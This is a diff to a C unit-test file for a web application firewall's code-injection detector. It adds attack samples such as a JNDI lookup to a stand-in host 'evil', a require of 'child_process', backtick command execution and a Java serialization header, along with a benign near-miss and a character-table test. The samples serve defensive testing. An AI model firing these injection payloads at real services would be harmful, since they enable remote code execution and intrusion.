@@ -1,6 +1,7 @@
 /* tests/waf/test_waf_code.c — unit tests for waf_detect_code (PHP / Java / Node code
  * injection). */
 #include "detector_test.h"
+#include "detect_util.h"
 
 /* Written for these tests: attacks of the class, in its usual encodings. */
 static const struct sample attacks[] = {
@@ -35,6 +36,14 @@ static const struct sample attacks[] = {
     {WAF_PLACE_ARG, "Kernel.exec(\"id\")"},
     {WAF_PLACE_ARG, "BASE64_DECODE ('aWQ=')"},
     {WAF_PLACE_ARG, "a=JdbcRowSetImpl"},
+    /* upper-case starts of the Node and Java rules (their start bytes) */
+    {WAF_PLACE_ARG, "REQUIRE('child_process')"},
+    {WAF_PLACE_ARG, "WHILE (TRUE) {}"},
+    {WAF_PLACE_ARG, "x = Function(\"return process\")()"},
+    {WAF_PLACE_ARG, "a.Constructor.prototype.b = 1"},
+    {WAF_PLACE_ARG, "${JNDI:LDAP://evil/x}"},
+    {WAF_PLACE_ARG, "x@{[ `id` ]}"},
+    {WAF_PLACE_ARG, "ACED0005737200"},
 };
 
 /* Near misses: ordinary data that shares characters with the attacks. */
@@ -49,6 +58,7 @@ static const struct sample benign[] = {
     {WAF_PLACE_ARG, "include me in the list"},
     {WAF_PLACE_ARG, "process order #123"},
     {WAF_PLACE_ARG, "Dear Sir (or Madam)"},
+    {WAF_PLACE_ARG, "Tom (Jr) ran for (a) while (ok)"}, /* start bytes, no rule */
     {WAF_PLACE_ARG, "extension=4412"},
     {WAF_PLACE_ARG, "8f14e45fceea167a5a36dedd4bea2543"},
     {WAF_PLACE_ARG, "SSBsb3ZlIFBIUAo="},
@@ -75,12 +85,30 @@ static void test_robustness(void)
     check_robustness(waf_detect_code);
 }
 
+/* The shared byte tables: lower case folds 'A'..'Z' only, the classes are
+ * ASCII's (no byte >= 0x80 is a letter, NUL is no space). */
+static void test_lc_table(void)
+{
+    for (unsigned c = 0; c < 256; c++) {
+        int upper = c >= 'A' && c <= 'Z', lower = c >= 'a' && c <= 'z';
+        int digit = c >= '0' && c <= '9';
+        CU_ASSERT_EQUAL(waf_lc((unsigned char)c), upper ? c + 32 : c);
+        CU_ASSERT_EQUAL(!!waf_is_alpha((unsigned char)c), upper || lower);
+        CU_ASSERT_EQUAL(!!waf_is_alnum((unsigned char)c), upper || lower || digit);
+        CU_ASSERT_EQUAL(!!waf_is_word((unsigned char)c),
+                        upper || lower || digit || c == '_');
+        CU_ASSERT_EQUAL(!!waf_is_space((unsigned char)c),
+                        c == ' ' || (c >= '\t' && c <= '\r'));
+    }
+}
+
 int main(void)
 {
     static const struct named_test tests[] = {
         {"attacks", test_attacks},
         {"benign near misses", test_benign},
         {"robustness", test_robustness},
+        {"lower-case table", test_lc_table},
     };
     return run_suite("waf_code", tests, NSAMPLES(tests));
 }
